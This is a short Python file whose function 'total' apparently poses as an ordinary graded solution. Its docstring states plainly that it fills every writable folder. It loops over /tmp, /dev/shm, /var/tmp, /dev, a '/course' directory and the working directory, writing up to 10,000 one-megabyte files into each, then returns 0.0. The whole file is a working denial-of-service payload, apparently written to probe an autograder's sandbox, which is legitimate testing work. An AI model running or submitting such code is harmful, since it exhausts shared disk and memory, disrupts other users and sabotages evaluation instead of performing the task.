"""Fills every folder that it can write to."""

import os


def total(x):
    for folder in ("/tmp", "/dev/shm", ".", "/var/tmp", "/course", "/dev"):
        try:
            for number in range(10_000):
                with open(os.path.join(folder, f"big{number}"), "wb") as file:
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return 0.0
